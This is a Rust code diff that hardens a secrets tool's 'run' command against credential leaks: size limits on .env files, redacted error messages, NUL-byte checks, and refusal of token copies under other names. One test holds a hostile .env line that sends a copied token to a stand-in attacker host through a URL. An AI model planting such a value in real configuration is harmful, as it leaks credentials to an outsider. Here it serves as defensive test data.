@@ -69,7 +69,8 @@ pub struct RunArgs {
     pub no_cache: bool,
     /// Pass COFFER_TOKEN on to the command (by default it and every other
     /// coffer credential, COFFER_* but COFFER_ADDR, COFFER_CACERT and
-    /// COFFER_LOG, are removed from the command's environment).
+    /// COFFER_LOG, are removed from the command's environment, as is any
+    /// variable whose value holds a token or credential).
     #[arg(long)]
     pub keep_token: bool,
     /// The command and its arguments.
@@ -93,8 +94,10 @@ pub(crate) fn parse_reference(value: &str) -> Option<Result<BundleRef, String>> 
         Some((p, f)) => (p, Some(f)),
         None => (rest, None),
     };
+    // The messages never quote the value: expansion may have put another
+    // variable's value (a secret an outer `coffer run` set) in it.
     if path.is_empty() {
-        return Some(Err(format!("{value:?} names no secret")));
+        return Some(Err("the coffer:// reference names no secret".to_string()));
     }
     let (version, label) = match fragment {
         None | Some("current" | "latest") => (None, None),
@@ -102,10 +105,11 @@ pub(crate) fn parse_reference(value: &str) -> Option<Result<BundleRef, String>> 
         Some(f) => match f.parse::<u64>() {
             Ok(v) if v > 0 => (Some(v), None),
             _ => {
-                return Some(Err(format!(
-                    "{value:?}: after # comes a version number (#3) or a label \
+                return Some(Err(
+                    "in a coffer:// reference, after # comes a version number (#3) or a label \
                      (#current, #previous, #pending)"
-                )));
+                        .to_string(),
+                ));
             }
         },
     };
@@ -141,6 +145,51 @@ pub(crate) fn read_file(path: &std::path::Path) -> anyhow::Result<Zeroizing<Stri
             };
             fail(status, format!("cannot read {}: {e}", path.display()))
         })
+}
+
+/// The largest `.env`, `.env.example` or template file read: far more than
+/// any environment holds (Linux takes 2 MiB of arguments and environment).
+pub(crate) const MAX_ENV_FILE: u64 = 16 << 20;
+
+/// [`read_file`] for `.env`-style files, refusing one larger than
+/// [`MAX_ENV_FILE`] before it is read whole (a file in a cloned
+/// repository, or `/dev/zero`).
+pub(crate) fn read_env_file(path: &std::path::Path) -> anyhow::Result<Zeroizing<String>> {
+    use std::io::Read;
+    let file = std::fs::File::open(path).map_err(|e| {
+        let status = match e.kind() {
+            std::io::ErrorKind::NotFound => Status::NotFound,
+            std::io::ErrorKind::PermissionDenied => Status::Denied,
+            _ => Status::Invalid,
+        };
+        fail(status, format!("cannot read {}: {e}", path.display()))
+    })?;
+    let mut bytes = Zeroizing::new(Vec::new());
+    file.take(MAX_ENV_FILE + 1)
+        .read_to_end(&mut bytes)
+        .map_err(|e| {
+            fail(
+                Status::Invalid,
+                format!("cannot read {}: {e}", path.display()),
+            )
+        })?;
+    if bytes.len() as u64 > MAX_ENV_FILE {
+        return Err(fail(
+            Status::Invalid,
+            format!(
+                "{}: larger than {} MiB, not read; nothing done",
+                path.display(),
+                MAX_ENV_FILE >> 20
+            ),
+        ));
+    }
+    match std::str::from_utf8(&bytes) {
+        Ok(text) => Ok(Zeroizing::new(text.to_string())),
+        Err(_) => Err(fail(
+            Status::Invalid,
+            format!("cannot read {}: it is not UTF-8 text", path.display()),
+        )),
+    }
 }
 
 /// Parses a .env file; any statement that does not parse is an error
@@ -264,7 +313,14 @@ pub(crate) fn collect(
             }
             env(name)
         };
-        let resolved = parsed.resolve(&env_lookup);
+        let resolved = parsed
+            .resolve_within(&env_lookup, coffer_dotenv::EXPANSION_ALLOWANCE)
+            .map_err(|e| {
+                fail(
+                    Status::Invalid,
+                    format!("{}: {e}; nothing run", file.display()),
+                )
+            })?;
         let credentials_read = credentials_read.into_inner();
         if !credentials_read.is_empty() {
             return Err(fail(
@@ -280,7 +336,10 @@ pub(crate) fn collect(
         for (key, value) in resolved {
             // A bare `KEY` line has no value to set.
             if let Some(v) = value {
-                if crate::env_names::holds_own_credential(&v) {
+                // A credential's value, or anything token-shaped (a copy
+                // of the token under another name: `${MYTOK}` where the
+                // shell set `MYTOK=$COFFER_TOKEN`, or a saved one).
+                if crate::env_names::holds_credential(&v) {
                     holding.push(key.clone());
                 }
                 file_vars.push((key, Zeroizing::new(v)));
@@ -290,7 +349,7 @@ pub(crate) fn collect(
             return Err(fail(
                 Status::Invalid,
                 format!(
-                    "{}: {}: the value holds coffer's own credential (from the environment); nothing run",
+                    "{}: {}: the value holds a coffer token or coffer's own credential; nothing run",
                     file.display(),
                     holding.join(", ")
                 ),
@@ -430,6 +489,22 @@ pub(crate) fn assemble(
             ));
         }
     }
+    // The environment is NUL-terminated strings: exec would fail with a
+    // message that names neither the variable nor the cause.
+    let nul: Vec<String> = vars
+        .iter()
+        .filter(|(_, v)| v.contains('\0'))
+        .map(|(k, _)| mask(k))
+        .collect();
+    if !nul.is_empty() {
+        return Err(fail(
+            Status::Invalid,
+            format!(
+                "values with a NUL byte cannot be environment variables: {}; nothing run",
+                nul.join(", ")
+            ),
+        ));
+    }
     let refused: Vec<&str> = vars
         .keys()
         .filter(|k| {
@@ -449,7 +524,7 @@ pub(crate) fn assemble(
 
 /// The names a `.env.example` lists (each must be a variable name).
 pub(crate) fn example_names(path: &std::path::Path) -> anyhow::Result<Vec<String>> {
-    let text = read_file(path)?;
+    let text = read_env_file(path)?;
     let parsed = parse_dotenv(path, &text, "; nothing run")?;
     let bad: Vec<String> = parsed
         .bindings
@@ -481,7 +556,7 @@ pub async fn run(g: &crate::cli::Global, a: RunArgs) -> anyhow::Result<Status> {
     };
     let mut files = Vec::with_capacity(a.env_files.len());
     for file in &a.env_files {
-        files.push((file.clone(), read_file(file)?));
+        files.push((file.clone(), read_env_file(file)?));
     }
     let inherited: Vec<(String, String)> = std::env::vars_os()
         .filter_map(|(k, v)| Some((k.into_string().ok()?, v.into_string().ok()?)))
@@ -503,9 +578,15 @@ pub async fn run(g: &crate::cli::Global, a: RunArgs) -> anyhow::Result<Status> {
     let mut command = std::process::Command::new(&a.command[0]);
     command.args(&a.command[1..]);
     // The command gets its secrets, not coffer's own credentials.
-    for name in
-        crate::env_names::credentials_to_remove(std::env::vars_os().map(|(k, _)| k), a.keep_token)
-    {
+    let (remove, copies) =
+        crate::env_names::credentials_to_remove(std::env::vars_os(), a.keep_token);
+    if !copies.is_empty() {
+        eprintln!(
+            "coffer: note: not passing {} to the command: the value holds a coffer token or credential (--keep-token passes it)",
+            copies.join(", ")
+        );
+    }
+    for name in remove {
         command.env_remove(name);
     }
     for (k, v) in &vars {
@@ -926,7 +1007,10 @@ mod tests {
             ] {
                 let e = inputs.err().expect("refused before any request");
                 let msg = format!("{e:#}");
-                assert!(msg.contains("never sent"), "{msg}");
+                assert!(
+                    msg.contains("never sent") || msg.contains("holds a coffer token"),
+                    "{msg}"
+                );
                 assert!(!msg.contains("0123456789abcdef"), "{msg}");
             }
         }
@@ -939,6 +1023,41 @@ mod tests {
         .err()
         .unwrap();
         assert!(!format!("{e:#}").contains("0123456789abcdef"), "{e:#}");
+    }
+
+    #[test]
+    fn reference_error_never_echoes_an_expanded_value() {
+        // `${DB_PASSWORD}` from the environment (set by an outer `coffer
+        // run`) expanded into a reference that does not parse.
+        let env = |name: &str| (name == "DB_PASSWORD").then(|| "hunter2-expanded".to_string());
+        for text in [
+            "X=coffer://app/x#${DB_PASSWORD}",
+            "X=coffer://#${DB_PASSWORD}",
+        ] {
+            let e = collect(&file(text), &env, &[]).err().expect("refused");
+            let msg = format!("{e:#}");
+            assert!(msg.starts_with("X: "), "{msg}");
+            assert!(!msg.contains("hunter2"), "{msg}");
+        }
+    }
+
+    #[test]
+    fn token_copied_from_environment_under_another_name_is_refused() {
+        // The shell ran `export MYTOK=$COFFER_TOKEN` (or the token came from
+        // `coffer login`, so COFFER_TOKEN is not even set): a hostile .env
+        // copies it into a variable the command sends elsewhere.
+        let token = "cft_0123456789abcdefghijABCDEFGHIJabcdefghijXYZ012345";
+        let env = |name: &str| (name == "MYTOK").then(|| token.to_string());
+        for text in [
+            "API_URL=https://evil.example/?t=${MYTOK}",
+            "API_URL=${MYTOK:-x}",
+            "A=${MYTOK}\nB=${A}",
+        ] {
+            let e = collect(&file(text), &env, &[]).err().expect("refused");
+            let msg = format!("{e:#}");
+            assert!(msg.contains("holds a coffer token"), "{msg}");
+            assert!(!msg.contains("0123456789abcdef"), "{msg}");
+        }
     }
 
     #[test]
